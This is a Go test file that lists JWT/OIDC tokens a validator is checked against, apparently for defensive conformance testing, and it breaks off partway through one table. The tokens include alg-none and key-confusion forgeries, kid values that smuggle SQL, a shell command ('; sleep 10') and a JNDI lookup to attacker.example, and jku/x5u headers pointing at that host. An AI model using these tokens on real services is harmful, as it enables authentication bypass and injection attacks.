package oidctest

import (
	"bytes"
	"crypto/ed25519"
	"crypto/sha256"
	"crypto/x509"
	"encoding/asn1"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"math/big"
	"slices"
	"strings"
	"time"
)

// null is JSON's null, which a Go nil is not in an Object.
var null = json.RawMessage("null")

func (l *Lab) accepted() []row {
	signed := func(k Key) string { return k.Sign(nil, l.Claims()) }
	changed := func(change Object) string { return l.p256.Sign(nil, l.Claims().With(change)) }
	typed := func(typ any) string { return l.p256.Sign(Object{"typ": typ}, l.Claims()) }
	text, body := l.texts()
	return []row{
		{"RS256", "RFC 7518 §3.3", accepted, signed(l.rsa)},
		{"RS384", "RFC 7518 §3.3", accepted, signed(l.rsa.For("RS384"))},
		{"RS512", "RFC 7518 §3.3", accepted, signed(l.rsa.For("RS512"))},
		{"PS256", "RFC 7518 §3.5", accepted, signed(l.rsa.For("PS256"))},
		{"PS384", "RFC 7518 §3.5", accepted, signed(l.rsa.For("PS384"))},
		{"PS512", "RFC 7518 §3.5", accepted, signed(l.rsa.For("PS512"))},
		{"ES256", "RFC 7518 §3.4", accepted, signed(l.p256)},
		{"ES384", "RFC 7518 §3.4", accepted, signed(l.p384)},
		{"ES512", "RFC 7518 §3.4", accepted, signed(l.p521)},
		{"EdDSA", "RFC 8037 §3.1", accepted, signed(l.ed)},
		{"a key for one algorithm, with it", "RFC 7517 §4.4", accepted, signed(l.rs256Only)},
		{"the other issuer's token", "RFC 7519 §4.1.1", accepted, l.foreignRSA.Sign(nil, l.Claims().With(Object{"iss": l.B.URL}))},
		{"no typ", "RFC 7519 §5.1", accepted, typed(nil)},
		{"typ at+jwt", "RFC 9068 §2.1", accepted, typed("at+jwt")},
		{"typ in capitals with its prefix", "RFC 7515 §4.1.9", accepted, typed("application/AT+JWT")},
		{"typ jwt in small letters", "RFC 7519 §5.1", accepted, typed("jwt")},
		{"jku, jwk, x5u and x5c are ignored", "RFC 8725 §3.10", accepted, l.p256.Sign(Object{
			"jku": "https://attacker.example/keys", "jwk": l.stranger.JWK(), "x5u": "https://attacker.example/cert", "x5c": []string{"AAAA"},
		}, l.Claims())},
		{"an unknown header member", "RFC 7515 §4", accepted, l.p256.Sign(Object{"x-app": true}, l.Claims())},
		{"b64 true", "RFC 7797 §3", accepted, l.p256.Sign(Object{"b64": true}, l.Claims())},
		{"aud in a list", "RFC 7519 §4.1.3", accepted, changed(Object{"aud": []string{"other", Audience}})},
		{"exp with a fraction", "RFC 7519 §2", accepted, changed(Object{"exp": float64(l.now.Unix()) + 0.5})},
		{"expired within the leeway", "RFC 7519 §4.1.4", accepted, changed(Object{"exp": l.now.Add(-LabLeeway / 2).Unix()})},
		{"nbf within the leeway", "RFC 7519 §4.1.5", accepted, changed(Object{"nbf": l.now.Add(LabLeeway / 2).Unix()})},
		{"nbf at the leeway's end", "RFC 7519 §4.1.5", accepted, changed(Object{"nbf": l.now.Add(LabLeeway).Unix()})},
		{"iat ahead of the clock", "RFC 7519 §4.1.6", accepted, changed(Object{"iat": l.now.Add(time.Hour).Unix()})},
		{"sub of 255 characters", "OpenID Connect Core §2", accepted, changed(Object{"sub": strings.Repeat("é", 255)})},
		{"no jti and no scope", "RFC 7519 §4.1", accepted, changed(Object{"jti": nil, "scope": nil})},
		{"an empty scope", "RFC 6749 §3.3", accepted, changed(Object{"scope": ""})},
		{"scp as a list", "AWS-style and Okta tokens", accepted, changed(Object{"scope": nil, "scp": []string{"jobs:read"}})},
		{"Keycloak's typ Bearer", "Keycloak", accepted, changed(Object{"typ": "Bearer"})},
		{"Cognito's token_use access", "Cognito", accepted, changed(Object{"token_use": "access"})},
		{"as long as may be", "the settings", accepted, l.sized(false)},
		{"claims with white space around", "RFC 8259 §2", accepted, l.p256.SignText(text, " "+body+"\n")},
		{"exp with an exponent", "RFC 8259 §6", accepted, changed(Object{"exp": json.RawMessage("41024448e2")})},
		{"scp as a string", "Entra ID", accepted, changed(Object{"scope": nil, "scp": "jobs:read"})},
		{"a nonce", "OpenID Connect Core §3.1.3.7", accepted, changed(Object{"nonce": "n-0S6_WzA2Mj"})},
		{"an actor", "RFC 8693 §4.1", accepted, changed(Object{"act": Object{"sub": "service"}})},
		{"cty JWT", "RFC 7519 §5.2", accepted, l.p256.Sign(Object{"cty": "JWT"}, l.Claims())},
		{"a kid in escapes", "RFC 8259 §7", accepted, l.p256.SignText(`{"alg":"ES256","kid":"\u0070256"}`, body)},
		{"names and values in escapes", "RFC 8259 §7", accepted, l.p256.SignText(text, strings.Replace(body, `"sub":"alice"`, `"s\u0075b":"\u0061lice"`, 1))},
		{"an escaped surrogate pair", "RFC 8259 §7", accepted, l.p256.SignText(text, `{"name":"\ud83d\ude00",`+body[1:])},
		{"a claim nested as deep as fits", "RFC 8259 §9", accepted, l.p256.SignText(text, `{"x":`+strings.Repeat("[", 2500)+strings.Repeat("]", 2500)+`,`+body[1:])},
		{"as many claims as fit", "CWE-407", accepted, l.p256.SignText(text, manyMembers(500)+body[1:])},
	}
}

func (l *Lab) forms() []row {
	valid := l.Valid()
	parts := strings.Split(valid, ".")
	header, payload, signature := parts[0], parts[1], parts[2]
	text, body := l.texts()
	signed := l.p256.SignText
	return []row{
		{"not a token", "RFC 7515 §7.1", malformed, "junk"},
		{"two dots", "RFC 7515 §7.1", malformed, ".."},
		{"two parts", "RFC 7515 §7.1", malformed, header + "." + payload},
		{"four parts", "RFC 7515 §7.1", malformed, valid + "."},
		{"five parts, as a JWE has", "RFC 7516 §7.1", malformed, valid + "." + payload + "." + signature},
		{"JSON serialisation", "RFC 7515 §7.2", malformed, `{"payload":"` + payload + `","protected":"` + header + `","signature":"` + signature + `"}`},
		{"no header", "RFC 7515 §7.1", malformed, "." + payload + "." + signature},
		{"no payload", "RFC 7515 §7.1", malformed, header + ".." + signature},
		{"the scheme still in front", "RFC 6750 §2.1", malformed, "Bearer " + valid},
		{"a space in front", "RFC 7515 §2", malformed, " " + valid},
		{"a space behind", "RFC 7515 §2", malformed, valid + " "},
		{"a line end behind", "RFC 7515 §2", malformed, valid + "\n"},
		{"a letter of no alphabet", "RFC 7515 §2", malformed, header + "." + payload + ".é" + signature},
		{"a NUL", "RFC 7515 §2", malformed, valid + "\x00"},
		{"header is a list", "RFC 7515 §4", malformed, signed("["+text+"]", body)},
		{"header is null", "RFC 7515 §4", malformed, signed("null", body)},
		{"header is empty", "RFC 7515 §4", malformed, signed("", body)},
		{"header with something behind", "RFC 8259 §2", malformed, signed(text+"{}", body)},
		{"header with a byte order mark", "RFC 8259 §8.1", malformed, signed("\ufeff"+text, body)},
		{"header that is not UTF-8", "RFC 7515 §5.2", malformed, signed(`{"x":"`+"\xff"+`",`+text[1:], body)},
		{"header cut short", "RFC 8259 §4", malformed, signed(text[:len(text)-1], body)},
		{"header with two alg", "RFC 7515 §4", malformed, signed(`{"alg":"none",`+text[1:], body)},
		{"header with two alg, one in escapes", "RFC 7515 §4", malformed, signed(`{"\u0061lg":"none",`+text[1:], body)},
		{"header with two kid", "RFC 7515 §4", malformed, signed(`{"kid":"x",`+text[1:], body)},
		{"claims are a list", "RFC 7519 §7.2", malformed, signed(text, "["+body+"]")},
		{"claims are a string", "RFC 7519 §7.2", malformed, signed(text, `"alice"`)},
		{"claims are another token", "RFC 7519 §5.2", malformed, signed(text, valid)},
		{"claims with something behind", "RFC 8259 §2", malformed, signed(text, body+"x")},
		{"claims that are not UTF-8", "RFC 7519 §7.2", malformed, signed(text, `{"name":"`+"\xc3\x28"+`",`+body[1:])},
		{"claims with half a surrogate pair", "RFC 7493 §2.1", malformed, signed(text, `{"name":"\ud800",`+body[1:])},
		{"claims with two sub", "RFC 7519 §4", malformed, signed(text, `{"sub":"root",`+body[1:])},
		{"claims with two sub, one in escapes", "RFC 7519 §4", malformed, signed(text, `{"s\u0075b":"root",`+body[1:])},
		{"claims with two iss", "RFC 7519 §4", malformed, signed(text, `{"iss":"`+l.B.URL+`",`+body[1:])},
		{"claims with two of a name further in", "RFC 7493 §2.3", malformed, signed(text, `{"x":{"a":1,"a":2},`+body[1:])},
		{"claims with a comment", "RFC 8259 §2", malformed, signed(text, `{/**/`+body[1:])},
		{"one part", "RFC 7515 §7.1", malformed, payload},
		{"no header, and none of the dots' parts", "RFC 7515 §7.1", malformed, "a.."},
		{"a zero-width space within", "RFC 7515 §2", malformed, header + ".\u200b" + payload + "." + signature},
		{"a percent sign for a dot", "RFC 7515 §7.1", malformed, strings.Replace(valid, ".", "%2E", 1)},
		{"header is a number", "RFC 7515 §4", malformed, signed("1", body)},
		{"header with single quotes", "RFC 8259 §7", malformed, signed(strings.ReplaceAll(text, `"`, "'"), body)},
		{"header with a comma too many", "RFC 8259 §4", malformed, signed(text[:len(text)-1]+",}", body)},
		{"header with a member that has two of a name", "RFC 7493 §2.3", malformed, signed(`{"x":{"a":1,"a":2},`+text[1:], body)},
		{"header in UTF-16", "RFC 8259 §8.1", malformed, signed(strings.Join(strings.Split("\x00"+text, ""), "\x00"), body)},
		{"claims are empty", "RFC 7519 §7.2", malformed, signed(text, "")},
		{"claims are null", "RFC 7519 §7.2", malformed, signed(text, "null")},
		{"claims are two objects", "RFC 8259 §2", malformed, signed(text, body+body)},
		{"claims with a byte order mark", "RFC 8259 §8.1", malformed, signed(text, "\ufeff"+body)},
		{"claims with NaN", "RFC 8259 §6", malformed, signed(text, `{"x":NaN,`+body[1:])},
		{"claims with a number that begins with zero", "RFC 8259 §6", malformed, signed(text, `{"x":01,`+body[1:])},
		{"claims with a bare line end in a string", "RFC 8259 §7", malformed, signed(text, "{\"x\":\"a\nb\","+body[1:])},
		{"claims with two exp", "RFC 7519 §4", malformed, signed(text, `{"exp":1,`+body[1:])},
		{"claims with two aud", "RFC 7519 §4", malformed, signed(text, `{"aud":"https://other.example",`+body[1:])},
		{"claims that are compressed", "RFC 7516 §4.1.3", malformed, l.deflated()},
	}
}

func (l *Lab) sizes() []row {
	text, body := l.texts()
	signed := l.p256.SignText
	return []row{
		{"too long", "the settings", malformed, l.sized(true)},
		{"too long, of a stranger", "size comes before any parsing", malformed, l.p256.Sign(nil, l.Claims().With(Object{"iss": "https://attacker.example", "filler": strings.Repeat("f", MaxToken)}))},
		{"far too long", "CVE-2025-30204", malformed, strings.Repeat(".", 1<<20)},
		{"header nested deep", "CWE-674", malformed, signed(`{"x":`+strings.Repeat("[", 2000)+`,`+text[1:], body)},
		{"far too long, without a dot", "CWE-400", malformed, strings.Repeat("A", 1<<20)},
		{"far too long, with the right dots", "CWE-400", malformed, strings.Repeat("A", 1<<18) + "." + strings.Repeat("A", 1<<18) + "." + strings.Repeat("A", 1<<18)},
		{"a signature of thousands of bytes", "CWE-400", malformed, l.Valid() + strings.Repeat("A", MaxToken)},
		{"a long signature that fits", "RFC 7518 §3.4", unsigned, l.Valid() + strings.Repeat("A", 4000)},
		{"an RSA signature that is too long and fits", "RFC 8017 §8.2.2", unsigned, l.rsa.Sign(nil, l.Claims()) + strings.Repeat("A", 4000)},
		{"claims nested deep and never closed", "CWE-674", malformed, signed(text, `{"x":`+strings.Repeat("[", 5000))},
		{"claims nested deep in objects", "CWE-674", malformed, signed(text, strings.Repeat(`{"a":`, 1000))},
		{"claims nested deep in both", "CWE-674", malformed, signed(text, strings.Repeat(`[{"a":`, 900)+body)},
		{"brackets that close what is not open", "RFC 8259 §2", malformed, signed(text, body+strings.Repeat("}", 1000))},
		{"aud of a thousand", "RFC 7519 §4.1.3", claims, l.p256.Sign(nil, l.Claims().With(Object{"aud": slices.Repeat([]string{"a"}, 1000)}))},
		{"exp of a thousand digits", "CWE-190", claims, l.p256.Sign(nil, l.Claims().With(Object{"exp": json.RawMessage(strings.Repeat("9", 1000))}))},
	}
}

func (l *Lab) headers() []row {
	with := func(change Object) string { return l.p256.Sign(change, l.Claims()) }
	return []row{
		{"no alg", "RFC 7515 §4.1.1", malformed, with(Object{"alg": nil})},
		{"alg is null", "RFC 7515 §4.1.1", malformed, with(Object{"alg": null})},
		{"alg is a number", "RFC 7515 §4.1.1", malformed, with(Object{"alg": 256})},
		{"alg is a list", "RFC 7515 §4.1.1", malformed, with(Object{"alg": []string{"ES256"}})},
		{"alg in small letters", "RFC 7515 §4.1.1", malformed, with(Object{"alg": "es256"})},
		{"alg with a space", "RFC 7515 §4.1.1", malformed, with(Object{"alg": "ES256 "})},
		{"ALG for alg", "RFC 7515 §4", malformed, with(Object{"alg": nil, "ALG": "ES256"})},
		{"alg of another curve", "RFC 8812", malformed, with(Object{"alg": "ES256K"})},
		{"alg of encryption", "RFC 7518 §4.1", malformed, with(Object{"alg": "RSA-OAEP"})},
		{"no kid, and several keys", "RFC 7515 §4.1.4", malformed, with(Object{"kid": nil})},
		{"kid is null", "RFC 7515 §4.1.4", malformed, with(Object{"kid": null})},
		{"kid is a number", "RFC 7515 §4.1.4", malformed, with(Object{"kid": 1})},
		{"kid is empty", "RFC 7515 §4.1.4", malformed, with(Object{"kid": ""})},
		{"kid is an object", "RFC 7515 §4.1.4", malformed, with(Object{"kid": Object{"p256": 1}})},
		{"kid of nobody", "RFC 7515 §4.1.4", unsigned, with(Object{"kid": "nobody"})},
		{"kid in capitals", "RFC 7515 §4.1.4", unsigned, with(Object{"kid": "P256"})},
		{"kid of another of the issuer's keys", "RFC 7515 §4.1.4", unsigned, with(Object{"kid": "p384"})},
		{"crit names a claim", "RFC 7515 §4.1.11", malformed, with(Object{"crit": []string{"exp"}, "exp": 1})},
		{"crit names what nobody knows", "RFC 7515 §4.1.11", malformed, with(Object{"crit": []string{"x"}, "x": 1})},
		{"crit is empty", "RFC 7515 §4.1.11", malformed, with(Object{"crit": []string{}})},
		{"crit is null", "RFC 7515 §4.1.11", malformed, with(Object{"crit": null})},
		{"crit names b64", "RFC 7797 §6", malformed, with(Object{"crit": []string{"b64"}, "b64": true})},
		{"b64 is false", "RFC 7797 §7", malformed, with(Object{"b64": false})},
		{"b64 is a string", "RFC 7797 §3", malformed, with(Object{"b64": "true"})},
		{"typ is empty", "RFC 7515 §4.1.9", malformed, with(Object{"typ": ""})},
		{"typ is a number", "RFC 7515 §4.1.9", malformed, with(Object{"typ": 1})},
		{"typ is null", "RFC 7515 §4.1.9", malformed, with(Object{"typ": null})},
		{"typ has its prefix twice", "RFC 7515 §4.1.9", malformed, with(Object{"typ": "application/application/jwt"})},
		{"kid with a space behind", "RFC 7515 §4.1.4", unsigned, with(Object{"kid": "p256 "})},
		{"kid that begins as a key's", "RFC 7515 §4.1.4", unsigned, with(Object{"kid": "p25"})},
		{"KID for kid", "RFC 7515 §4", malformed, with(Object{"kid": nil, "KID": "p256"})},
		{"crit is a string", "RFC 7515 §4.1.11", malformed, with(Object{"crit": "exp"})},
		{"crit names what the RFC has", "RFC 7515 §4.1.11", malformed, with(Object{"crit": []string{"alg"}})},
		{"b64 is null", "RFC 7797 §3", malformed, with(Object{"b64": null})},
		{"b64 is zero", "RFC 7797 §3", malformed, with(Object{"b64": 0})},
		{"typ is a list", "RFC 7515 §4.1.9", malformed, with(Object{"typ": []string{"JWT"}})},
		{"typ with parameters", "RFC 7515 §4.1.9", malformed, with(Object{"typ": "JWT; charset=utf-8"})},
		{"typ with a space behind", "RFC 7515 §4.1.9", malformed, with(Object{"typ": "JWT "})},
	}
}

func (l *Lab) injections() []row {
	kid := func(kid string) string { return l.p256.Sign(Object{"kid": kid}, l.Claims()) }
	with := func(k Key, header Object) string { return k.Sign(header, l.Claims()) }
	der := must(x509.MarshalPKIXPublicKey(l.rsa.public()))
	return []row{
		{"kid is a path", "RFC 8725 §3.10", unsigned, kid("../../../../dev/null")},
		{"kid is a URL", "RFC 8725 §3.10", unsigned, kid("https://attacker.example/keys")},
		{"kid is SQL", "RFC 8725 §3.10", unsigned, kid("p256' OR '1'='1")},
		{"kid has line ends", "CWE-117", unsigned, kid("p256\nlevel=info msg=accepted")},
		{"kid of 4,000 characters", "CWE-400", unsigned, kid(strings.Repeat("k", 4000))},
		{"jku of a stranger", "RFC 8725 §3.10", unsigned, with(l.stranger, Object{"kid": "stranger", "jku": "https://attacker.example/keys"})},
		{"jwk of a stranger", "CVE-2018-0114", unsigned, with(l.stranger, Object{"kid": "stranger", "jwk": l.stranger.JWK()})},
		{"jwk of a stranger under the issuer's kid", "CVE-2018-0114", unsigned, with(l.stranger, Object{"jwk": l.stranger.JWK()})},
		{"x5u of a stranger", "RFC 8725 §3.10", unsigned, with(l.strangerRSA, Object{"x5u": "https://attacker.example/cert"})},
		{"x5c of a stranger", "RFC 7515 §4.1.6", unsigned, with(l.strangerRSA, Object{"x5c": []string{base64.StdEncoding.EncodeToString(der)}})},
		{"kid is a path within the issuer", "RFC 8725 §3.10", unsigned, kid("/keys")},
		{"kid is a query", "RFC 8725 §3.10", unsigned, kid("p256&kid=p384")},
		{"kid has a NUL", "CWE-158", unsigned, kid("p256\x00")},
		{"kid is a command", "CWE-78", unsigned, kid("p256; sleep 10")},
		{"kid is a look-up", "CVE-2021-44228", unsigned, kid("${jndi:ldap://attacker.example/a}")},
		{"kid is a template", "CWE-1336", unsigned, kid("{{p256}}")},
		{"kid is markup", "CWE-79", unsigned, kid("<script>p256</script>")},
		{"kid is a prototype", "CWE-1321", unsigned, kid("__proto__")},
		{"kid is a format", "CWE-134", unsigned, kid("%s%n%x")},
		{"jku of the issuer, with a stranger's key", "RFC 8725 §3.10", unsigned, with(l.stranger, Object{"jku": l.A.URL + KeysPath})},
		{"jku of the other trusted issuer", "RFC 8725 §3.10", unsigned, with(l.foreignP256, Object{"jku": l.B.URL + KeysPath})},
		{"jwk and no kid", "CVE-2018-0114", malformed, with(l.stranger, Object{"kid": nil, "jwk": l.stranger.JWK()})},
		{"jwk that is a secret", "CVE-2018-0114", malformed, with(Key{ID: "k", Alg: "HS256", Secret: []byte("secret")}, Object{"jwk": Object{"kty": "oct", "k": b64([]byte("secret"))}})},
		{"x5t of a stranger", "RFC 7515 §4.1.7", unsigned, with(l.strangerRSA, Object{"x5t": "AAAA", "x5t#S256": "AAAA"})},
	}
}

func (l *Lab) nones() []row {
	none := func(alg string) string {
		return b64(encode(Object{"alg": alg, "typ": "JWT", "kid": "rsa"})) + "." + b64(encode(l.Claims())) + "."
	}
	return []row{
		{"alg none", "RFC 8725 §2.1", malformed, none("none")},
		{"alg None", "RFC 8725 §2.1", malformed, none("None")},
		{"alg NONE", "RFC 8725 §2.1", malformed, none("NONE")},
		{"alg nOnE", "RFC 8725 §2.1", malformed, none("nOnE")},
		{"alg empty", "RFC 7515 §4.1.1", malformed, none("")},
		{"alg none and a signature", "RFC 7518 §3.6", malformed, l.rsa.relabelled("none", l.Claims())},
		{"alg none with a space", "RFC 8725 §2.1", malformed, none("none ")},
		{"alg none with a NUL", "RFC 8725 §2.1", malformed, none("none\x00")},
		{"alg none with a look-alike letter", "RFC 8725 §2.1", malformed, none("n\u043ene")},
		{"alg none in escapes", "RFC 8725 §2.1", malformed, l.p256.SignText(`{"alg":"\u006eone","kid":"p256"}`, string(encode(l.Claims())))},
		{"alg none and no kid", "CVE-2015-2951", malformed, b64(encode(Object{"alg": "none"})) + "." + b64(encode(l.Claims())) + "."},
		{"alg none and the last dot left out", "CVE-2015-2951", malformed, strings.TrimSuffix(none("none"), ".")},
		{"alg none for a key that is not there", "RFC 8725 §2.1", malformed, b64(encode(Object{"alg": "none", "kid": "nobody"})) + "." + b64(encode(l.Claims())) + "."},
		{"alg none of a stranger's claims", "RFC 8725 §2.1", claims, b64(encode(Object{"alg": "none"})) + "." + b64(encode(l.Claims().With(Object{"iss": "https://attacker.example"}))) + "."},
	}
}

func (l *Lab) confusions() []row {
	with := func(k Key, header Object) string { return k.Sign(header, l.Claims()) }
	hs := func(secret []byte) string { return with(Key{ID: "rsa", Alg: "HS256", Secret: secret}, nil) }
	der := must(x509.MarshalPKIXPublicKey(l.rsa.public()))
	pemKey := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	pkcs1 := pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(&l.rsa.rsa().PublicKey)})
	pemEC := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: must(x509.MarshalPKIXPublicKey(l.p256.public()))})
	return []row{
		{"HS256 with the public key in PEM", "CVE-2015-9235", malformed, hs(pemKey)},
		{"HS256 with the public key in DER", "CVE-2015-9235", malformed, hs(der)},
		{"HS256 with the modulus", "CVE-2015-9235", malformed, hs(l.rsa.rsa().N.Bytes())},
		{"HS256 with the JWK", "CVE-2015-9235", malformed, hs(encode(l.rsa.JWK()))},
		{"HS256 with an empty secret", "CVE-2019-20933", malformed, hmacToken(l.rsa.header().With(Object{"alg": "HS256"}), l.Claims())},
		{"HS256 with the oct key of the set", "RFC 7517 §4.1", malformed, Key{ID: "oct", Alg: "HS256", Secret: []byte(strings.Repeat("k", 32))}.Sign(nil, l.Claims())},
		{"HS512 with the public key in PEM", "CVE-2015-9235", malformed, Key{ID: "rsa", Alg: "HS512", Secret: pemKey}.Sign(nil, l.Claims())},
		{"RS256 by the name of PS256", "RFC 8725 §3.1", unsigned, l.rsa.relabelled("PS256", l.Claims())},
		{"PS256 by the name of RS256", "RFC 8725 §3.1", unsigned, l.rsa.For("PS256").relabelled("RS256", l.Claims())},
		{"RS256 by the name of RS512", "RFC 8725 §3.1", unsigned, l.rsa.relabelled("RS512", l.Claims())},
		{"ES256 by the name of ES384", "RFC 7518 §3.4", unsigned, l.p256.relabelled("ES384", l.Claims())},
		{"ES256 by the name of EdDSA", "RFC 8725 §3.1", unsigned, l.p256.relabelled("EdDSA", l.Claims())},
		{"RS256 with an elliptic key's kid", "RFC 8725 §3.1", unsigned, with(l.rsa, Object{"kid": "p256"})},
		{"a key for one algorithm, with another", "RFC 7517 §4.4", unsigned, with(l.rs256Only.For("PS256"), nil)},
		{"a key for encryption", "RFC 7517 §4.2", unsigned, with(l.rsa, Object{"kid": "enc"})},
		{"a key for signing only", "RFC 7517 §4.3", unsigned, with(l.rsa, Object{"kid": "sign-only"})},
		{"an RSA key of 1024 bits", "RFC 7518 §3.3", unsigned, with(Key{ID: "small", Alg: "RS256", Secret: l.small}, nil)},
		{"an RSA key with exponent one", "RFC 8017 §3.1", unsigned, l.exponentOne()},
		{"an elliptic key for another curve's algorithm", "RFC 7518 §3.4", unsigned, with(l.p256, Object{"kid": "wrong-alg"})},
		{"a key of the other trusted issuer", "RFC 8725 §3.8", unsigned, with(l.foreignP256, nil)},
		{"a key of the other trusted issuer with the same kid", "RFC 8725 §3.8", unsigned, with(l.foreignRSA, nil)},
		{"HS256 with the public key in PEM without its last line end", "CVE-2016-10555", malformed, hs(bytes.TrimSpace(pemKey))},
		{"HS256 with the public key in PKCS #1", "CVE-2015-9235", malformed, hs(pkcs1)},
		{"HS256 with an elliptic public key in PEM", "CVE-2024-33663", malformed, with(Key{ID: "p256", Alg: "HS256", Secret: pemEC}, nil)},
		{"HS256 with an elliptic public key's point", "CVE-2024-33663", malformed, with(Key{ID: "p256", Alg: "HS256", Secret: must(l.p256.ecdsa().PublicKey.Bytes())}, nil)},
		{"HS256 with an Ed25519 public key", "CVE-2022-29217", malformed, with(Key{ID: "ed", Alg: "HS256", Secret: []byte(kind[ed25519.PublicKey](l.ed.public()))}, nil)},
		{"HS384 with the key set", "CVE-2015-9235", malformed, with(Key{ID: "rsa", Alg: "HS384", Secret: l.A.KeySet()}, nil)},
		{"HS256 with a secret of zeros", "CVE-2019-20933", malformed, hs(make([]byte, 32))},
		{"ES384 by the name of ES256", "RFC 7518 §3.4", unsigned, l.p384.relabelled("ES256", l.Claims())},
		{"ES512 by the name of ES384", "RFC 7518 §3.4", unsigned, l.p521.relabelled("ES384", l.Claims())},
		{"EdDSA by the name of ES256", "RFC 8725 §3.1", unsigned, l.ed.relabelled("ES256", l.Claims())},
		{"EdDSA by the name of RS256", "RFC 8725 §3.1", unsigned, l.ed.relabelled("RS256", l.Claims())},
		{"ES256 by the name of RS256", "RFC 8725 §3.1", unsigned, l.p256.relabelled("RS256", l.Claims())},
		{"ES256 with an RSA key's kid", "RFC 8725 §3.1", unsigned, with(l.p256, Object{"kid": "rsa"})},
		{"EdDSA with an elliptic key's kid", "RFC 8725 §3.1", unsigned, with(l.ed, Object{"kid": "p256"})},
		{"an RSA key with exponent two", "RFC 8017 §3.1", unsigned, with(l.rsa, Object{"kid": "e2"})},
		{"an elliptic key that is not on its curve", "CVE-2015-7940", unsigned, with(l.p256, Object{"kid": "off-curve"})},
		{"an elliptic key of another curve than it says", "RFC 7518 §6.2", unsigned, with(l.p256, Object{"kid": "wrong-curve"})},
		{"an elliptic key of a curve that nobody knows", "RFC 7517 §5", unsigned, with(l.p256, Object{"kid": "koblitz"})},
		{"a key for key agreement", "RFC 8037 §3.2", unsigned, with(l.ed, Object{"kid": "x25519"})},
		{"a key that could not be parsed", "RFC 7517 §5", unsigned, with(l.rsa, Object{"kid": "not-base64"})},
		{"the other trusted issuer's name over a key of this one", "RFC 8725 §3.8", unsigned, l.p256.Sign(nil, l.Claims().With(Object{"iss": l.B.URL}))},
		{"the other trusted issuer's name over this one's key of the same kid", "RFC 8725 §3.8", unsigned, l.rsa.Sign(nil, l.Claims().With(Object{"iss": l.B.URL}))},
	}
}

func (l *Lab) signatures() []row {
	valid := takeApart(l.Valid())
	header, payload, _ := strings.Cut(valid.signed, ".")
	rs := takeApart(l.rsa.Sign(nil, l.Claims()))
	one := big.NewInt(1)
	other := strings.Split(l.p256.Sign(nil, l.Claims().With(Object{"sub": "bob"})), ".")
	return []row{
		{"no signature", "RFC 7515 §5.2", unsigned, valid.with(nil)},
		{"another's claims under the signature", "RFC 7515 §5.2", unsigned, header + "." + other[1] + "." + b64(valid.signature)},
		{"another token's signature", "RFC 7515 §5.2", unsigned, valid.with(unb64(other[2]))},
		{"another header under the signature", "RFC 7515 §5.2", unsigned, b64(encode(l.p256.header().With(Object{"x": 1}))) + "." + payload + "." + b64(valid.signature)},
		{"a bit of the signature is flipped", "RFC 7515 §5.2", unsigned, valid.with(flip(valid.signature))},
		{"ECDSA by a stranger under the issuer's kid", "RFC 7515 §5.2", unsigned, l.stranger.Sign(nil, l.Claims())},
		{"RSA by a stranger under the issuer's kid", "RFC 7515 §5.2", unsigned, l.strangerRSA.Sign(nil, l.Claims())},
		{"RSA zero", "RFC 8017 §8.2.2", unsigned, rs.with(make([]byte, 256))},
		{"RSA one", "RFC 8017 §8.2.2", unsigned, rs.with(one.FillBytes(make([]byte, 256)))},
		{"EdDSA by a stranger", "RFC 8032 §5.1.7", unsigned, NewKey("ed", "EdDSA", 0).Sign(nil, l.Claims())},
		{"EdDSA zero", "RFC 8032 §5.1.7", unsigned, takeApart(l.ed.Sign(nil, l.Claims())).with(make([]byte, ed25519.SignatureSize))},
		{"the signature over the claims alone", "RFC 7515 §5.1", unsigned, valid.with(l.p256.signature(payload))},
		{"the signature over the texts and not their encoding", "RFC 7515 §5.1", unsigned, valid.with(l.p256.signature(string(unb64(header)) + "." + string(unb64(payload))))},
		{"the signature with its halves swapped", "RFC 7518 §3.4", unsigned, valid.with(slices.Concat(valid.signature[32:], valid.signature[:32]))},
		{"the signature twice", "RFC 7515 §5.2", unsigned, valid.with(slices.Repeat(valid.signature, 2))},
		{"RSA of a bare digest", "CVE-2006-4339", unsigned, rs.with(l.rawRSA(sha256.Sum256([]byte(rs.signed))))},
		{"RSA, the modulus less one", "RFC 8017 §8.2.2", unsigned, rs.with(new(big.Int).Sub(l.rsa.rsa().N, one).Bytes())},
		{"EdDSA, the identity and zero", "RFC 8032 §5.1.7", unsigned, l.edIdentity()},
		{"EdDSA over a digest", "RFC 8037 §3.1", unsigned, l.edPrehashed()},
	}
}

// A signature can be written in another way, and some can be changed into another one without the key. What is accepted
// of them has the claims that were signed: a token is known by its jti and never by its bytes.
func (l *Lab) malleable() []row {
	whole := l.Valid()
	parts := strings.Split(whole, ".")
	header, payload, signature := parts[0], parts[1], parts[2]
	valid := takeApart(whole)
	r, s := valid.numbers()
	rs := takeApart(l.rsa.Sign(nil, l.Claims()))
	wide := takeApart(l.p521.Sign(nil, l.Claims()))
	wideR, wideS := wide.numbers()
	order := l.p521.ecdsa().Params().N
	return []row{
		{"ECDSA with the other s", "RFC 7518 §3.4", accepted, l.otherS()},
		{"padding", "RFC 7515 §2", malformed, whole + "=="},
		{"stray bits in the signature", "RFC 4648 §3.5", malformed, whole[:len(whole)-1] + string(nextLetter(whole[len(whole)-1]))},
		{"the letters of plain base64", "RFC 7515 §2", malformed, header + "." + payload + "." + plainLetters(signature)},
		{"a line end within", "RFC 7515 §2", malformed, header[:8] + "\r\n" + header[8:] + "." + payload + "." + signature},
		{"a carriage return within", "RFC 7515 §2", malformed, header[:8] + "\r" + header[8:] + "." + payload + "." + signature},
		{"RSA with a byte more", "RFC 8017 §8.2.2", unsigned, rs.with(append([]byte{0}, rs.signature...))},
		{"RSA with a byte less", "RFC 8017 §8.2.2", unsigned, rs.with(rs.signature[:255])},
		{"RSA with the modulus added", "RFC 8017 §5.2.2", unsigned, rs.with(new(big.Int).Add(new(big.Int).SetBytes(rs.signature), l.rsa.rsa().N).Bytes())},
		{"RSA-PSS with a short salt", "RFC 7518 §3.5", unsigned, l.pss(20)},
		{"RSA-PSS with no salt", "RFC 7518 §3.5", unsigned, l.pss(0)},
		{"EdDSA with the order added", "RFC 8032 §8.4", unsigned, l.edMalleable()},
		{"ECDSA in ASN.1", "RFC 7518 §3.4", unsigned, valid.with(must(asn1.Marshal(struct{ R, S *big.Int }{r, s})))},
		{"ECDSA with a byte more", "RFC 7518 §3.4", unsigned, valid.with(append([]byte{0}, valid.signature...))},
